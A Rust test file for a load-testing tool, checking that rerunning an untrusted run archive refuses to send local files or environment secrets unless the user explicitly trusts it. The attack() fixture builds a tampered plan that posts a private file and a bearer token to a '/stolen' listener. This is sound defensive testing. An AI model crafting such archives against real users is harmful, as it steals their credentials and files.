//! Archives of somebody else: what their plans name is not opened, read, started or talked to unless the user says so.

use crate::common::{DUEL, Done, Place, Recorder, Running};
use serde_json::{Value, json};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const BAD_USAGE: i32 = 2;
const VARIABLE: &str = "PLANTED_VARIABLE";
const OF_VARIABLE: &str = "s3cr3t-of-the-environment";
const OF_FILE: &str = "s3cr3t-of-a-file";

/// A run that was made by somebody and then changed by hand.
fn foreign(place: &Place, args: &[&str], change: impl Fn(&mut Value)) -> PathBuf {
    let path = place.path("foreign.sqlite");
    let archive = path.to_str().unwrap();
    place.duel([args, &["-q", "--archive", archive]].concat()).ok();
    let database = rusqlite::Connection::open(&path).unwrap();
    let plan: String = database.query_row("SELECT plan FROM runs", [], |row| row.get(0)).unwrap();
    let mut plan: Value = serde_json::from_str(&plan).unwrap();
    change(&mut plan);
    database.execute("UPDATE runs SET plan = ?1", [plan.to_string()]).unwrap();
    database.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(())).unwrap();
    path
}

/// One that sends a file and a variable of whoever repeats it to an address of its own.
fn attack(place: &Place, listener: &Recorder) -> PathBuf {
    let (url, file) = (Recorder::plain().url("/"), place.file("private", format!("{OF_FILE}\n")));
    let args = [&format!("a={url}"), &format!("b={url}"), "-d", "1s", "-c", "1", "--slot", "30ms"];
    foreign(place, &args, |plan| {
        for target in plan["targets"].as_array_mut().unwrap() {
            target["address"] = json!(listener.url("/stolen"));
        }
        plan["workload"]["method"] = json!("POST");
        plan["workload"]["body"] = json!({ "file": &file });
        let auth = json!({"bearer": {"token": {"environment": VARIABLE}}});
        plan["workload"]["requests"] = json!({ "auth": auth });
    })
}

fn duel(place: &Place, args: &[&str]) -> Done {
    let mut command = place.command();
    command.env(VARIABLE, OF_VARIABLE).args(args).arg("-q");
    Running::start(command).end()
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn an_archive_of_somebody_else_gets_no_file_and_no_variable_of_whoever_repeats_its_runs() {
    let (place, listener) = (Place::new(), Recorder::plain());
    let archive = attack(&place, &listener);
    for verb in ["rerun", "why"] {
        let sentence = duel(&place, &[verb, "last", "--archive", text(&archive)]).refused(BAD_USAGE);
        for part in ["private", VARIABLE, "/stolen", "--trust-archive"] {
            assert!(sentence.contains(part), "{verb}: {part}: {sentence}");
        }
        assert_eq!(listener.take(), [], "{verb} sent something");
    }
    // As the user's own it may lie where runs are kept, and still be somebody else's file.
    std::os::unix::fs::symlink(&archive, place.archive()).unwrap();
    duel(&place, &["rerun", "last"]).refused(BAD_USAGE);
    std::fs::remove_file(place.archive()).unwrap();
    std::fs::copy(&archive, place.archive()).unwrap();
    std::fs::set_permissions(place.archive(), PermissionsExt::from_mode(0o622)).unwrap();
    duel(&place, &["rerun", "last"]).refused(BAD_USAGE);
    assert_eq!(listener.take(), []);
    // Who says so gets what the plan says, and so does who kept the run himself.
    duel(&place, &["rerun", "last", "--archive", text(&archive), "--trust-archive"]).ok();
    let stolen = listener.take();
    assert!(stolen[0].text().contains(OF_FILE) && stolen[0].head.contains(OF_VARIABLE), "{}", stolen[0].head);
    std::fs::set_permissions(place.archive(), PermissionsExt::from_mode(0o600)).unwrap();
    duel(&place, &["rerun", "last"]).ok();
    assert!(listener.take()[0].text().contains(OF_FILE));
}

#[test]
fn a_secret_that_is_typed_again_does_not_go_where_an_archive_of_somebody_else_says_before_that_was_asked() {
    let (place, listener) = (Place::new(), Recorder::plain());
    let url = Recorder::plain().url("/");
    let archive = foreign(&place, &["run", &url, "-n", "2", "-c", "1", "-H", "Authorization: old"], |plan| {
        plan["targets"][0]["address"] = json!(listener.url("/stolen"));
    });
    let again = ["rerun", "last", "--archive", text(&archive), "-H", "Authorization: typed"];
    let sentence = duel(&place, &again).refused(BAD_USAGE);
    assert!(["Authorization", "/stolen", "--trust-archive"].iter().all(|part| sentence.contains(part)), "{sentence}");
    assert_eq!(listener.take(), []);
    duel(&place, &[&again[..], &["--trust-archive"]].concat()).ok();
    assert_eq!(listener.take()[0].field("Authorization"), Some("typed"));
}

#[test]
fn a_plan_that_names_nothing_of_ours_is_repeated_from_any_archive() {
    let (place, listener) = (Place::new(), Recorder::plain());
    let archive = foreign(&place, &["run", &listener.url("/"), "-n", "2", "-c", "1"], |_| {});
    listener.take();
    duel(&place, &["rerun", "last", "--archive", text(&archive)]).ok();
    assert_eq!(listener.take().len(), 3);
}

#[test]
fn on_a_terminal_it_is_asked_for() {
    let (place, listener) = (Place::new(), Recorder::plain());
    let archive = attack(&place, &listener);
    let answered = |answer: &str| {
        // `script` gives it a terminal.
        let mut command = Command::new("script");
        command.args(["-qec", &format!("{DUEL} rerun last -q --archive {}", text(&archive)), "/dev/null"]);
        command.env("HOME", place.root()).env(VARIABLE, OF_VARIABLE).current_dir(place.root());
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(answer.as_bytes()).unwrap();
        let output = child.wait_with_output().unwrap();
        (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned())
    };
    let (code, said) = answered("n\n");
    assert_eq!(code, Some(BAD_USAGE), "{said}");
    for part in ["somebody else's", "/stolen", "private", VARIABLE, "(y/N)"] {
        assert!(said.contains(part), "{part}: {said}");
    }
    assert_eq!(listener.take(), []);
    let (code, said) = answered("y\n");
    assert_eq!(code, Some(0), "{said}");
    assert!(listener.take()[0].text().contains(OF_FILE));
}

#[test]
fn who_only_looks_at_a_run_opens_none_of_its_files() {
    let place = Place::new();
    // Whoever opens such a file to read it waits for somebody to write, for ever.
    let trap = place.path("trap");
    assert!(Command::new("mkfifo").arg(&trap).status().unwrap().success());
    let trap = text(&trap).to_owned();
    let url = Recorder::plain().url("/");
    let archive = foreign(&place, &["run", &url, "-n", "2", "-c", "1"], |plan| {
        let http = &mut plan["workload"];
        http["body"] = json!({ "file": &trap });
        for file in ["ca_file", "client_cert_file", "client_key_file"] {
            http["tls"][file] = json!(&trap);
        }
        http["unix_socket"] = json!(&trap);
        http["requests"] = json!({
            "source": {"file": &trap, "format": "urls"},
            "data_file": &trap,
            "auth": {"basic": {"user": "me", "password": {"file": &trap}}},
            "form": {"is_multipart": false, "fields": [{"name": "f", "value": {"content": &trap}}]},
        });
        let redfish = json!({"address": &url, "user": "me", "password_file": &trap, "verify": false});
        plan["targets"][0]["host"] =
            json!({"access": {"ssh": "nowhere.invalid"}, "server": "unknown", "redfish": redfish});
    });
    let export = |format| ["export", "last", "-f", format];
    for args in [
        &["show", "last"][..],
        &["show", "last", "--json"],
        &["list"],
        &["diff", "last", "last"],
        &["report", "last", "-o", "-"],
        &["check", "last", "--critical", "errors<1%"],
        &export("csv"),
        &export("json"),
        &export("junit"),
    ] {
        duel(&place, &[args, &["--archive", text(&archive)]].concat()).ok();
    }
    let sentence = duel(&place, &["rerun", "last", "--archive", text(&archive)]).refused(BAD_USAGE);
    assert!(sentence.contains("--trust-archive"), "{sentence}");
}
